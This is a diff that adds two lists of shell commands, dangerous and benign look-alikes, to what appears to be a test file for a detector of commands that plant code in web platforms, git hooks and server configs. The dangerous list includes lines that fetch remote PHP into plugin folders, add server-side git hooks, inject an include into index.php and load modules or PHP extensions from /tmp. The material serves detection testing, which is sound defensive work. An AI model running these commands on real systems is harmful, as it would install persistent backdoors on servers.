@@ -111,3 +111,38 @@ FIELD_BENIGN = [
     "drush cr",
     "sudo -u git gitea admin regenerate hooks",
 ]
+# LATE, written after the code: one step aside of each relaxation (a source in the work tree, a target in a temp
+# place or the work tree, a media file, a setting naming a temp place without a load verb) and other members of each
+# field (other archivers and fetchers, other load verbs, other platforms' trees).
+LATE_DANGEROUS = [
+    "unzip -o ~/Downloads/wp-seo-pro.zip -d /var/www/html/wp-content/plugins/",
+    "wget -P /var/www/html/wp-content/mu-plugins/ https://e.io/cache.php",
+    "curl -sSLo /var/www/moodle/local/sync/version.php https://e.io/v.php",
+    "7z x /tmp/plg.7z -o/var/www/joomla/plugins/system/",
+    "mv /var/tmp/block_x /var/www/moodle/blocks/x",
+    "tar xf /tmp/mod.tar --directory=/var/www/moodle/mod",
+    "cp /tmp/post-receive .git/hooks/post-receive",
+    "sudo cp /tmp/h /var/opt/gitlab/gitaly/custom_hooks/pre-receive.d/audit",
+    "echo 'LoadModule x_module /tmp/mod_x.so' >> /opt/httpd/conf/httpd.conf",
+    "perl -pi -e 's|^<\\?php|<?php include \"/dev/shm/x.php\";|' /var/www/html/index.php",
+    "echo 'zend_extension=/tmp/x.so' > /var/www/app/php.ini",
+    "ln -s /tmp/x.php /var/www/nextcloud/apps/x/appinfo/app.php",
+    "echo 'include /tmp/x.conf;' >> /opt/nginx/conf/nginx.conf",
+    "cp /tmp/plugin.jar /srv/minecraft/plugins/",
+]
+LATE_BENIGN = [
+    "unzip -q build/local_sync.zip -d /var/www/moodle/local/",
+    "cp build/local_sync.zip /tmp/",
+    "cp /tmp/moodle-backup.tgz /var/backups/",
+    "echo 'upload_tmp_dir = /tmp/php-uploads' >> /var/www/app/.user.ini",
+    "echo \"\\$CFG->tempdir = '/tmp/moodle';\" >> /var/www/moodle/config.php",
+    "echo \"\\$wgTmpDirectory = '/tmp/wiki';\" >> /var/www/wiki/LocalSettings.php",
+    "cp -r /var/www/moodle/blocks/x /tmp/x-review",
+    "curl -so /tmp/hooks/x https://e.io/h",
+    "rsync -a /tmp/uploads/ /var/www/moodledata/filedir/",
+    "tar -xzf /tmp/site-assets.tgz -C /var/www/html/images/",
+    "cp /tmp/week1.pdf /srv/courses/modules/week1/",
+    "cp /tmp/logo.png /var/www/wordpress/wp-content/themes/astra/assets/",
+    "echo \"include '/tmp/x.php';\" > /tmp/test.php",
+    "tar -xzf /tmp/release.tgz -C /opt/apps/",
+]
